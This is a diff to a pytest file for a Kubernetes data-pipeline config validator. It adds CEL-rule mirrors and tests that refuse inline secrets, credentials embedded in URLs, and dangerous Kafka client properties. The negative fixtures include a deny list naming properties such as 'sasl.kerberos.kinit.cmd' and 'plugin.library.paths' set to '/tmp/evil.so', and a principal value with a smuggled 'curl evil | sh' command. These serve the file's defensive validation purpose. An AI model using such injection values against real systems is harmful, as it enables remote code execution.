@@ -21,6 +21,12 @@ import pytest
 import yaml
 
 from offtake.config import ConfigError, PipelineSpec, load_pipeline, parse_pipeline
+from offtake.config.client_properties import (
+    has_url_credentials,
+    is_secret_property,
+    is_secret_spark_property,
+    refused_reason,
+)
 from offtake.config.crd_check import json_schema
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -131,8 +137,6 @@ def _container(s: Mapping[str, Any]) -> Mapping[str, Any] | None:
     return c if isinstance(c, Mapping) else None
 
 
-_SECRET_KEYS = ("sasl.jaas.config", "ssl.key.pem", "ssl_key.pem", "sasl.oauthbearer.config")
-
 CEL_MIRROR: dict[str, Callable[[Any], bool]] = {
     "(has(self.mode) && self.mode == 'inject') || !has(self.processor) "
     "|| !has(self.processor.container) || has(self.processor.container.image)": lambda s: (
@@ -147,10 +151,44 @@ CEL_MIRROR: dict[str, Callable[[Any], bool]] = {
     "!(has(self.mode) && self.mode == 'inject') || !has(self.paused) || !self.paused": lambda s: (
         not _injects(s) or not s.get("paused")
     ),
-    "self.all(k, !(k.lowerAscii().endsWith('password') || k.lowerAscii().endsWith('secret') "
-    "|| k.lowerAscii() in ['sasl.jaas.config', 'ssl.key.pem', 'ssl_key.pem', "
-    "'sasl.oauthbearer.config']))": lambda s: (
-        not any(k.lower().endswith(("password", "secret")) or k.lower() in _SECRET_KEYS for k in s)
+    "self.all(k, !(k.lowerAscii() in ['plugin.library.paths', 'interceptors', "
+    "'ssl.engine.location', 'ssl.engine.id', 'ssl.providers', 'ssl_engine_callback_data', "
+    "'sasl.kerberos.kinit.cmd', 'opaque', 'default_topic_conf', 'msg_order_cmp', "
+    "'ssl_key', 'ssl_certificate', 'ssl_ca', 'logger', 'on_delivery', 'on_commit'] || "
+    "k.lowerAscii().endsWith('_cb')))": (lambda s: not any(refused_reason(k) for k in s)),
+    "['sasl.kerberos.principal', 'sasl.kerberos.keytab'].all(k, !(k in self) || "
+    "string(self[k]).matches('^[A-Za-z0-9._/@:+=-]+$'))": (
+        lambda s: not any(refused_reason(k, v) for k, v in s.items())
+    ),
+    "self.all(k, !(k.lowerAscii().endsWith('password') || "
+    "k.lowerAscii().endsWith('secret') || k.lowerAscii().endsWith('passphrase') || "
+    "k.lowerAscii() in ['sasl.jaas.config', 'ssl.key.pem', 'ssl_key.pem', "
+    "'sasl.oauthbearer.config', 'sasl.oauthbearer.assertion.private.key.pem']))": (
+        lambda s: not any(is_secret_property(k) for k in s)
+    ),
+    "self.all(k, !(['password', 'secret', 'token', 'access.key', 'account.key', "
+    "'private.key', '.sas.'].exists(m, k.lowerAscii().contains(m))))": (
+        lambda s: not any(is_secret_spark_property(k) for k in s)
+    ),
+    "!self.catalogUri.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
+    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
+        lambda s: not has_url_credentials(s["catalogUri"])
+    ),
+    "!self.url.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
+    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
+        lambda s: not has_url_credentials(s["url"])
+    ),
+    "!has(self.connectUrl) || "
+    "!self.connectUrl.matches('(?i)(^[a-z][a-z0-9+.:-]*://[^/?#@]*:[^/?#@]*@|[?&;][ "
+    "]*(password|pwd|token)[ ]*=|^jdbc:oracle:[a-z]+:[^@/]*/[^@]*@)')": (
+        lambda s: "connectUrl" not in s or not has_url_credentials(s["connectUrl"])
+    ),
+    "!has(self.password)": lambda s: "password" not in s,
+    "!(has(self.secretRef) && has(self.passwordSecretRef))": (
+        lambda s: not ("secretRef" in s and "passwordSecretRef" in s)
+    ),
+    "!has(self.tokenSecretRef) || (has(self.mode) && self.mode == 'connect')": (
+        lambda s: "tokenSecretRef" not in s or s.get("mode") == "connect"
     ),
     "self.metadata.name.size() <= 55": lambda s: len(s["metadata"]["name"]) <= 55,
     "self.metadata.name.matches('^[a-z]([-a-z0-9]*[a-z0-9])?$')": lambda s: (
@@ -376,6 +414,8 @@ def fix_cross_field_rules(m: dict[str, Any]) -> None:
             submit["mode"] = "kubernetes"
         if submit.get("mode") == "kubernetes":
             submit.pop("connectUrl", None)
+        if "tokenSecretRef" in submit:
+            submit["mode"] = "connect"
         if submit.get("mode") == "connect":
             submit.setdefault("connectUrl", "sc://spark:15002")
     source = spec["source"]
@@ -520,6 +560,8 @@ def test_there_are_examples_of_each_sink_and_processor_mode() -> None:
 
 
 LEAVES = [(p, n) for p, n in leaves(_schema()["properties"]["spec"], ("spec",))]
+#: Fields the CRD describes only to refuse them (an inline secret), with the loader.
+REFUSED_LEAVES = {("spec", "sink", "spark", "jdbc", "password")}
 
 
 @pytest.mark.parametrize(("path", "node"), LEAVES, ids=[".".join(p) for p, _ in LEAVES])
@@ -527,6 +569,13 @@ def test_every_leaf_field_accepted_by_the_crd_parses(path: FieldPath, node: Node
     for value in leaf_values(node, path[-1]):
         manifest = minimal()
         set_path(manifest, path, copy.deepcopy(value))
+        if path in REFUSED_LEAVES:
+            # Kept in the schema to be refused with a message naming the Secret form instead.
+            with pytest.raises(AssertionError, match="CEL rule"):
+                validate(manifest)
+            with pytest.raises(ConfigError, match="must not be inline"):
+                parse_pipeline(manifest)
+            continue
         validate(manifest)  # the generator made a manifest the server accepts...
         try:
             parsed = parse_pipeline(manifest)  # ...and the worker runs it
@@ -677,7 +726,35 @@ def _breaking(rule: str) -> tuple[dict[str, Any], bool]:
     m = minimal()
     spec = m["spec"]
     loader_rejects = True
-    if "self.paused" in rule:
+    json_sink = {"format": "json", "path": "/x"}
+    if "plugin.library.paths" in rule:
+        spec["kafka"]["config"] = {"plugin.library.paths": "/tmp/evil.so"}
+    elif "sasl.kerberos.principal" in rule:
+        spec["kafka"]["config"] = {"sasl.kerberos.principal": "me; curl evil | sh"}
+    elif "'.sas.'" in rule:
+        conf = {"spark.hadoop.fs.s3a.secret.key": "hunter2"}
+        spec["sink"] = {"spark": {**json_sink, "submit": {"conf": conf}}}
+    elif "self.catalogUri.matches" in rule:
+        iceberg = {"table": "lake.orders", "catalogUri": "postgresql+psycopg://u:pw@db/x"}
+        spec["sink"] = {"spark": {"format": "iceberg", "path": "/x", "iceberg": iceberg}}
+    elif "self.url.matches" in rule:
+        jdbc = {"url": "jdbc:postgresql://db/x?password=pw", "table": "t"}
+        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
+    elif "self.connectUrl.matches" in rule:
+        submit = {"mode": "connect", "connectUrl": "sc://spark:15002/;token=pw"}
+        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
+    elif "!has(self.password)" in rule:
+        jdbc = {"url": "jdbc:postgresql://db/x", "table": "t", "password": "pw"}
+        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
+    elif "has(self.passwordSecretRef)" in rule:
+        ref = {"name": "db", "key": "password"}
+        jdbc = {"url": "jdbc:x", "table": "t", "secretRef": {"name": "db"}}
+        jdbc["passwordSecretRef"] = ref
+        spec["sink"] = {"spark": {"format": "jdbc", "jdbc": jdbc}}
+    elif "has(self.tokenSecretRef)" in rule:
+        submit = {"mode": "local", "tokenSecretRef": {"name": "spark", "key": "token"}}
+        spec["sink"] = {"spark": {**json_sink, "submit": submit}}
+    elif "self.paused" in rule:
         spec.update(mode="inject", paused=True, processor={"container": {"port": 8080}})
     elif "|| has(self.processor.container.image)" in rule:
         spec["processor"] = {"container": {"port": 8080}}
